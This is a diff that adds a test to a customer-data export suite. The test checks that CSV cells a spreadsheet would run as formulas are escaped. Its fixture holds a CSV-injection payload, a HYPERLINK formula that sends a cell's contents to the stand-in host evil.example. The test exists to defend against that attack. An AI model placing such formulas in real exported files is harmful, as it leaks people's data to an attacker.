@@ -150,6 +150,21 @@ describe('the export package', () => {
     assert.deepEqual(customers[1], ['17', 'Sanne de Boer', 'sanne@example.nl', 'Gorredijk', 'true']);
   });
 
+  it('neutralises cells a spreadsheet would run as formulas, and keeps a phone number readable', () => {
+    const result = accessResult();
+    result.records[0]!.data = {
+      ...result.records[0]!.data,
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
+      phone: '+31 6 12345678',
+      balance: -12.5,
+    };
+    const customers = readCsv(strFromU8(unpack(result).files['csv/shop/customers.csv'] ?? new Uint8Array()));
+    const row = Object.fromEntries(customers[0]!.map((column, i) => [column, customers[1]![i]]));
+    assert.equal(row.name, `'=HYPERLINK("https://evil.example/?"&A1,"Klik")`);
+    assert.equal(row.phone, "'+31 6 12345678");
+    assert.equal(row.balance, '-12.5', 'a negative number is a number, not a formula');
+  });
+
   for (const [lang, words] of [
     ['nl', ['Uw gegevens bij Balkonzon b.v.', 'Contactgegevens', 'Bestelgegevens', 'Wie heeft uw gegevens nog?']],
     ['en', ['Your data at Balkonzon b.v.', 'Contact details', 'Order details', 'Who else holds your data?']],
